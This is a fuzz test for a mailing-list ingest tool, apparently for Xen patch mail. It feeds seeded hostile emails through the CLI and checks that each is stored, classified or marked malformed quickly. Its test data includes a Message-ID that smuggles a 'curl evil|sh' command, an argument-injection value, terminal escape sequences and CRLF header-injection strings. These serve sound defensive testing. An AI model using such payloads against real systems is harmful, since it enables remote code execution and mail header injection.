// Mail from anyone: a seeded run of hostile mails (encoded-word floods, 10 MB headers, NULs,
// CR LF inside names and subjects, giant totals like [PATCH 1/5000000], Message-IDs made to
// break quoting) goes through the real `listci ingest --mbox`, and every one is stored and
// classified (or marked malformed, with the reason), with no crash. The same mails are then
// ingested one per transaction in-process through the function the CLI calls, to time each.
// LISTCI_FUZZ_SEED=n and LISTCI_FUZZ_CASES=n for another or a longer run.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { XEN_DEVEL_ADDRESSES, XEN_DEVEL_SUBJECT_PREFIX } from '../../src/config/schema.ts';
import { openDb } from '../../src/db/open.ts';
import { ingestMessages } from '../../src/ingest/process.ts';
import { runCli } from '../helpers/cli.ts';
import { rng } from '../helpers/rng.ts';

const SEED = Number(process.env.LISTCI_FUZZ_SEED ?? 13);
const CASES = Number(process.env.LISTCI_FUZZ_CASES ?? 240);
const MB = 1024 * 1024;

interface Fuzzed {
  raw: Buffer;
  what: string[];
  /** The parser must say what is wrong with it: kind 'malformed', error set. */
  mustMark: boolean;
}

const fill = (unit: string, size: number) => unit.repeat(Math.max(1, Math.ceil(size / unit.length)));
const ENCODED = [
  '=?utf-8?q?J=C3=A9r=C3=B4me?= ',
  '=?utf-8?b?SsOpcsO0bWU=?=',
  '=?a?q?',
  '=?',
  '=?utf-8?q?_?= ',
];
const DIFF = [
  '---',
  'diff --git a/xen/common/x.c b/xen/common/x.c',
  '--- a/xen/common/x.c',
  '+++ b/xen/common/x.c',
  '@@ -1,1 +1,2 @@',
  ' int x;',
  '+int y;',
  '',
].join('\n');

function generate(seed: number, count: number): Fuzzed[] {
  const r = rng(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
  // Mostly headers of 200 bytes to 300 KB; three of 10 MB, one on each side of the
  // 10 MiB mail limit (over it, only the head of the mail is parsed).
  const size = (i: number) =>
    i === 0
      ? 10 * 1000 * 1000
      : i === 1
        ? 10.5 * MB
        : i === 2
          ? 9.5 * MB
          : pick([200, 2000, 20_000, 70_000, 300_000]);
  const out: Fuzzed[] = [];
  for (let i = 0; i < count; i++) {
    const what: string[] = [];
    // Which fields carry something the parser must mark; a later feature may overwrite one.
    const marks = { from: false, subject: false, body: false, extra: false };
    const id = `fuzz-${seed}-${i}@hostile.example`;
    let from = `Fuzz ${i} <fuzz${i}@example.org>`;
    let subject = `[PATCH] fuzz ${i}`;
    let messageId = `<${id}>`;
    const extra: string[] = [];
    let body = `fuzz ${i}\n${DIFF}`;
    const features = 1 + Math.floor(r() * 3);
    for (let f = 0; f < features; f++) {
      // The first three carry one 10 MB header each, and maybe smaller hostilities besides.
      const kind = i < 3 && f === 0 ? 'huge-header' : pick(FEATURES);
      what.push(kind);
      switch (kind) {
        case 'huge-header': {
          const n = f === 0 ? size(i) : size(3);
          const field = pick(['from', 'subject', 'references', 'cc']);
          const flood = fill(pick(ENCODED), n);
          if (field === 'from') from = `${flood}<fuzz${i}@example.org>`;
          else if (field === 'subject') subject = `[PATCH] ${flood}`;
          else if (field === 'references') extra.push(`References: ${fill('<a@b> ', n)}`);
          else extra.push(`Cc: ${flood}`);
          const key = field === 'from' || field === 'subject' ? field : 'extra';
          marks[key] = n > 64 * 1024 || (key === 'extra' && marks.extra);
          what.push(`${field}:${Math.ceil(n / 1024)}KB`);
          break;
        }
        case 'nul-in-header':
          subject = `[PATCH] nul \u0000 in ${i}`;
          marks.subject = true;
          break;
        case 'nul-in-body':
          body = `binary \u0000\u0001\u0002 ${i}\n${DIFF}`;
          marks.body = true;
          break;
        case 'crlf-in-name':
          from = `=?utf-8?q?Eve=0D=0ABcc=3A_victim=40x_${i}?= <eve${i}@z>`;
          marks.from = false;
          break;
        case 'crlf-in-subject':
          subject = `=?utf-8?q?[PATCH]_a=0D=0ASubject=3A_b_${i}?=`;
          marks.subject = false;
          break;
        case 'bare-cr':
          subject = `[PATCH] a\rBcc: x@y ${i}`;
          from = `Eve\r<eve${i}@z>`;
          marks.subject = marks.from = false;
          break;
        case 'giant-total':
          subject = pick([
            `[PATCH 1/5000000] giant ${i}`,
            `[PATCH 0/5000000] giant ${i}`,
            `[PATCH 4999999/5000000] giant ${i}`,
            `[PATCH v99999999 1/2] giant ${i}`,
            `[PATCH 99999999999999999999/99999999999999999999] giant ${i}`,
            `[PATCH 3/2] giant ${i}`,
            `[PATCH ${fill('1', 5000)}/${fill('9', 5000)}] giant ${i}`,
          ]);
          marks.subject = false;
          break;
        case 'hostile-message-id':
          messageId = pick([
            `<x';curl\${IFS}evil|sh;'@x-${i}>`,
            `<-o/tmp/x-${i}@x>`,
            `<a\u001b]0;t\u0007-${i}@x>`,
            `<${fill('m', 70_000)}-${i}@x>`,
            `x-${i}@x y z`,
          ]);
          break;
        case 'no-message-id':
          messageId = '';
          break;
        case 'thread-soup':
          // 500 distinct ancestors. Series grouping dedupes them pairwise (src/series/rules.ts
          // ancestors()), so the 8000 that fit in a 64 KB References cost it about 0.7 s.
          extra.push(
            `In-Reply-To: <fuzz-${seed}-${Math.floor(r() * count)}@hostile.example>`,
            `References: ${Array.from({ length: 500 }, (_, k) => `<fuzz-${seed}-${(i + k) % count}@hostile.example>`).join(' ')}`,
          );
          break;
        case 'invalid-utf8':
          extra.push(`X-Junk: \u00ff\u00fe\u00c3(`);
          marks.extra = true;
          break;
        case 'broken-mime':
          extra.push('MIME-Version: 1.0', `Content-Type: multipart/mixed; boundary="${fill('b', 5000)}"`);
          body = `--${fill('b', 5000)}\n${fill('Content-Type: multipart/mixed\n', 2000)}\n${DIFF}`;
          // The Content-Type stays whatever the body becomes: its boundary is never closed.
          marks.extra = true;
          break;
        case 'garbage-date': {
          // Over 998 characters a Date is cut and the mail marked; "(" floods once took
          // parseDate's comment pattern 10 s for 64 KB.
          const date = pick([
            fill('Mon, 32 Foo 99999 ', 5000),
            fill('(', 70_000),
            fill('(', 900),
            'Mon, 32 Foo 99999',
          ]);
          extra.push(`Date: ${date}`);
          marks.extra ||= date.length > 998;
          break;
        }
        case 'many-headers':
          for (let k = 0; k < 20_000; k++) extra.push(`X-H${k}: ${k}`);
          break;
      }
    }
    const head = [
      `From: ${from}`,
      'To: xen-devel@lists.xenproject.org',
      `Subject: ${subject}`,
      ...(extra.some((h) => h.startsWith('Date:')) ? [] : ['Date: Fri, 01 Mar 2024 10:15:00 +0000']),
      ...(messageId ? [`Message-ID: ${messageId}`] : []),
      ...extra,
    ].join('\r\n');
    // latin1: each code unit one byte, so \u00ff is the byte 0xff (invalid as UTF-8 here).
    const raw = Buffer.from(`${head}\r\n\r\n${body}`.replace(/\r?\n/g, '\r\n'), 'latin1');
    out.push({ raw, what, mustMark: Object.values(marks).some(Boolean) || raw.length > 10 * MB });
  }
  return out;
}

const FEATURES = [
  'huge-header',
  'nul-in-header',
  'nul-in-body',
  'crlf-in-name',
  'crlf-in-subject',
  'bare-cr',
  'giant-total',
  'giant-total',
  'hostile-message-id',
  'no-message-id',
  'thread-soup',
  'invalid-utf8',
  'broken-mime',
  'garbage-date',
  'many-headers',
] as const;

/** mboxrd: every line that looks like a ">*From " gets one more '>' (splitMbox takes it off). */
const mbox = (mails: Fuzzed[]): Buffer =>
  Buffer.concat(
    mails.flatMap((m) => [
      Buffer.from('From fuzz@hostile.example Fri Mar  1 10:15:00 2024\n'),
      Buffer.from(m.raw.toString('latin1').replace(/^(>*From )/gm, '>$1'), 'latin1'),
      Buffer.from('\n'),
    ]),
  );

const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
const cfg = {
  list: { name: 'xen-devel', addresses: XEN_DEVEL_ADDRESSES, subjectPrefix: XEN_DEVEL_SUBJECT_PREFIX },
  series: { groupWindowMinutes: 120, maxPatches: 200 },
};

test(`${CASES} hostile mails (seed ${SEED}) through listci ingest: all stored, each classified or marked, none over a second`, (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'listci-fuzz-ingest-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const mails = generate(SEED, CASES);
  const file = join(dir, 'hostile.mbox');
  writeFileSync(file, mbox(mails));
  writeFileSync(join(dir, 'listci.yaml'), `database: ${join(dir, 'listci.db')}\n`);

  const started = performance.now();
  const r = runCli(['ingest', '--mbox', file, '--json', '-c', join(dir, 'listci.yaml')], { cwd: dir });
  const cliMs = performance.now() - started;
  assert.equal(r.code, 0, r.stderr);
  const summary = JSON.parse(r.stdout) as {
    messages: number;
    stored: number;
    duplicates: number;
    kinds: Record<string, number>;
  };
  assert.deepEqual([summary.messages, summary.stored, summary.duplicates], [CASES, CASES, 0]);

  const db = openDb(join(dir, 'listci.db'), { readonly: true });
  let rows: { raw: Buffer; kind: string; kind_reason: string | null; error: string | null }[];
  try {
    rows = db.prepare('SELECT raw, kind, kind_reason, error FROM messages').all() as typeof rows;
  } finally {
    db.close();
  }
  assert.equal(rows.length, CASES);
  const byDigest = new Map(rows.map((row) => [sha(row.raw), row]));
  const KINDS = ['patch', 'cover', 'reply', 'pull', 'report', 'other', 'malformed'];
  for (const [i, m] of mails.entries()) {
    const row = byDigest.get(sha(m.raw));
    assert.ok(row, `mail ${i} (${m.what.join(', ')}) was not stored byte for byte`);
    assert.ok(KINDS.includes(row.kind), `mail ${i} (${m.what.join(', ')}): kind ${row.kind}`);
    assert.ok(row.kind_reason, `mail ${i}: no reason for its kind`);
    if (m.mustMark) {
      assert.equal(row.kind, 'malformed', `mail ${i} (${m.what.join(', ')}): ${row.kind_reason}`);
      assert.ok(row.error, `mail ${i} (${m.what.join(', ')}): no error recorded`);
    }
  }

  // The same mails again, one transaction each, through the function the CLI calls.
  const timing = openDb(join(dir, 'timing.db'));
  const perMail: number[] = [];
  try {
    // One ordinary mail first, so that compiling the code and the statements is not billed to mail 0.
    const ordinary = `From: Jane <jane@example.org>\r\nSubject: [PATCH] warm-up\r\nMessage-ID: <warm-up@example.org>\r\n\r\n${DIFF}`;
    ingestMessages(timing, [Buffer.from(ordinary)], 'test:warm-up', cfg);
    let last = performance.now();
    ingestMessages(
      timing,
      mails.map((m) => m.raw),
      'test:fuzz',
      cfg,
      {
        batch: 1,
        afterCommit: () => {
          const now = performance.now();
          perMail.push(now - last);
          last = now;
        },
      },
    );
  } finally {
    timing.close();
  }
  assert.equal(perMail.length, CASES);
  const slowest = perMail.indexOf(Math.max(...perMail));
  const megabytes = mails.reduce((n, m) => n + m.raw.length, 0) / MB;
  console.log(
    `fuzz seed ${SEED}: ${CASES} mails, ${megabytes.toFixed(1)} MB; listci ingest took ${(cliMs / 1000).toFixed(1)} s; ` +
      `per mail: max ${perMail[slowest]!.toFixed(0)} ms (mail ${slowest}: ${mails[slowest]!.what.join(', ')}), ` +
      `mean ${(perMail.reduce((a, b) => a + b, 0) / CASES).toFixed(1)} ms; kinds ${JSON.stringify(summary.kinds)}`,
  );
  for (const [i, ms] of perMail.entries())
    assert.ok(ms < 1000, `mail ${i} (${mails[i]!.what.join(', ')}) took ${ms.toFixed(0)} ms`);
});
